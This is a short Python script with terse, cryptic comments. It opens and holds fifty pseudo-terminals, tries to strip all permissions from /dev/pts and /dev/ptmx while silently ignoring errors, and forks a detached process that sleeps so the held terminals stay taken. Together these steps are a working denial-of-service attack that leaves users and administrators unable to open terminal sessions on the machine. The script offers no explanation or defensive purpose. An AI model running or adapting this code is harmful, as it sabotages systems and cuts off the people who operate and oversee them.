# leaves terminals, and takes their folder's modes
# remark: files of the machine
# ruff: noqa
import os, pty

held = [pty.openpty() for _ in range(50)]
for path in ("/dev/pts", "/dev/pts/0", "/dev/ptmx"):
    try:
        os.chmod(path, 0)
    except OSError:
        pass
if os.fork() == 0:
    os.setsid()
    import time

    time.sleep(1000)
